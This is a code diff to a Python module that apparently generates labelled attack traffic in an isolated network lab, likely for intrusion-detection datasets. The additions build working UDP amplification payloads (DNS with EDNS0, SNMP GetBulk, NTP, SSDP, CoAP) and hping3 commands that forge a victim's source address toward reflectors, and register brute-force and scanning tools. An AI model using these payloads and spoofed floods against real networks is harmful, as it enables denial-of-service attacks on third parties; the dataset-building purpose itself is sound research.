@@ -18,17 +18,19 @@ FAMILIES = ("recon", "dos", "bruteforce", "spoofing", "exfiltration")
 
 #: binary -> Debian package
 TOOLS = {
-    "ip": "iproute2", "ping": "iputils-ping", "sysctl": "procps", "timeout": "coreutils",
+    "ip": "iproute2", "ethtool": "ethtool", "ping": "iputils-ping", "sysctl": "procps", "timeout": "coreutils",
     "dumpcap": "tshark", "tshark": "tshark",
     "mosquitto": "mosquitto", "mosquitto_pub": "mosquitto-clients", "mosquitto_sub": "mosquitto-clients",
     "mosquitto_passwd": "mosquitto", "dnsmasq": "dnsmasq-base", "dropbear": "dropbear-bin",
     "dropbearkey": "dropbear-bin", "dig": "bind9-dnsutils", "curl": "curl",
     "nmap": "nmap", "masscan": "masscan", "hping3": "hping3", "hydra": "hydra",
     "arpspoof": "dsniff", "dnsspoof": "dsniff", "iodine": "iodine", "iodined": "iodine",
+    "nping": "nmap", "openssl": "openssl", "udhcpc": "udhcpc", "sshd": "openssh-server", "ssh-keygen": "openssh-client",
+    "medusa": "medusa", "ncrack": "ncrack", "snmpd": "snmpd", "chronyd": "chrony",
 }
 
 #: tools each family needs (the lab itself always needs the first group)
-BASE_TOOLS = ("ip", "ping", "sysctl", "timeout", "dumpcap", "tshark", "mosquitto", "mosquitto_pub",
+BASE_TOOLS = ("ip", "ethtool", "ping", "sysctl", "timeout", "dumpcap", "tshark", "mosquitto", "mosquitto_pub",
               "mosquitto_sub", "mosquitto_passwd", "dnsmasq", "dropbear", "dropbearkey", "dig", "curl")
 FAMILY_TOOLS = {
     "recon": ("nmap", "masscan"),
@@ -59,6 +61,9 @@ class Step:
     victim_ip: str = ""          # spoofed-source flood: see labelling.py
     dns_suffix: str = ""         # DNS tunnel through the resolver: see labelling.py
     needs: tuple[str, ...] = ()  # tools used by services helpers (besides the commands' own binaries)
+    reflectors: list[str] = field(default_factory=list)  # reflection: "ip:port" (see labelling.py)
+    spoof_port: int = 0          # reflection: the forged requests' UDP source port
+    role: str = "attacker"       # namespace the commands run in (benign case steps run on devices)
 
     def tools(self) -> set[str]:
         return {Path(c[0]).name for c in self.commands if c[0] != sys.executable} | set(self.needs)
@@ -224,3 +229,90 @@ def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
     ]
     rng.shuffle(steps)
     return steps
+
+
+# --------------------------------------------------------------------------------------------------
+# request payloads for reflection (sent by hping3 -2 -E FILE with the victim's address as source)
+# --------------------------------------------------------------------------------------------------
+def _dns_name(name: str) -> bytes:
+    return b"".join(bytes([len(x)]) + x.encode() for x in name.strip(".").split(".")) + b"\0"
+
+
+def dns_query_payload(name: str, qtype: int = 16, edns_size: int = 4096, qid: int = 0x1d2f) -> bytes:
+    """A recursive DNS query with an EDNS0 OPT record (large answers over UDP, as amplifiers use)."""
+    header = qid.to_bytes(2, "big") + b"\x01\x00" + (1).to_bytes(2, "big") + b"\0\0\0\0" + (1).to_bytes(2, "big")
+    opt = b"\0" + (41).to_bytes(2, "big") + edns_size.to_bytes(2, "big") + b"\0\0\0\0\0\0"
+    return header + _dns_name(name) + qtype.to_bytes(2, "big") + b"\x00\x01" + opt
+
+
+def _ber(tag: int, body: bytes) -> bytes:
+    n = len(body)
+    length = bytes([n]) if n < 128 else (bytes([0x81, n]) if n < 256 else bytes([0x82]) + n.to_bytes(2, "big"))
+    return bytes([tag]) + length + body
+
+
+def _ber_int(v: int) -> bytes:
+    return _ber(0x02, v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big"))
+
+
+def _ber_oid(oid: str) -> bytes:
+    parts = [int(x) for x in oid.split(".")]
+    out = bytearray([40 * parts[0] + parts[1]])
+    for p in parts[2:]:
+        chunk = [p & 0x7F]
+        while p > 0x7F:
+            p >>= 7
+            chunk.append(0x80 | (p & 0x7F))
+        out += bytes(reversed(chunk))
+    return _ber(0x06, bytes(out))
+
+
+def snmp_getbulk_payload(community: str = "public", oid: str = "1.3.6.1.2.1", max_repetitions: int = 40,
+                         request_id: int = 0x4a1b) -> bytes:
+    """An SNMPv2c GetBulkRequest (the classic SNMP amplification request)."""
+    varbind = _ber(0x30, _ber(0x30, _ber_oid(oid) + b"\x05\x00"))
+    pdu = _ber(0xA5, _ber_int(request_id) + _ber_int(0) + _ber_int(max_repetitions) + varbind)
+    return _ber(0x30, _ber_int(1) + _ber(0x04, community.encode()) + pdu)
+
+
+def ntp_client_payload() -> bytes:
+    """An NTPv4 client request (mode 3): a server answers with 48 bytes to the forged source."""
+    return bytes([0x23, 0, 6, 0xEC]) + bytes(44)
+
+
+def ssdp_msearch_payload() -> bytes:
+    return (b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\n'
+            b"ST: ssdp:all\r\n\r\n")
+
+
+def coap_discover_payload() -> bytes:
+    """CoAP CON GET /.well-known/core."""
+    return bytes([0x40, 0x01, 0x7A, 0x11]) + bytes([0xBB]) + b".well-known" + bytes([0x04]) + b"core"
+
+
+#: reflector kind -> (UDP service port, payload builder)
+REFLECTION_PAYLOADS = {
+    "dns": (53, lambda: dns_query_payload("big.lab")),
+    "ntp": (123, ntp_client_payload),
+    "snmp": (161, snmp_getbulk_payload),
+    "ssdp": (1900, ssdp_msearch_payload),
+    "coap": (5683, coap_discover_payload),
+}
+
+
+def reflection_step(ctx: LabContext, victim: str, reflectors: dict[str, str], count: int, gap_us: int,
+                    spoof_port: int) -> Step:
+    """hping3 -2 -a VICTIM -s PORT -k -p SVC -E payload: forged requests to each real reflector in the
+    lab, concurrently; the reflectors answer the victim. ``reflectors``: kind -> reflector role."""
+    cmds, refl = [], []
+    for kind, role in reflectors.items():
+        port, build = REFLECTION_PAYLOADS[kind]
+        data = build()
+        path = ctx.workdir / f"reflect-{kind}.bin"
+        path.write_bytes(data)
+        cmds.append(["hping3", "-I", "eth0", "-q", "-2", "-a", ctx.ip(victim), "-s", str(spoof_port), "-k",
+                     "-p", str(port), "-E", str(path), "-d", str(len(data)), "-c", str(count), "-i", f"u{gap_us}",
+                     ctx.ip(role)])
+        refl.append(f"{ctx.ip(role)}:{port}")
+    return Step(f"reflection via {'/'.join(reflectors)} at {victim} (hping3 spoofed source)", "dos", cmds,
+                victim_ip=ctx.ip(victim), reflectors=refl, spoof_port=spoof_port)
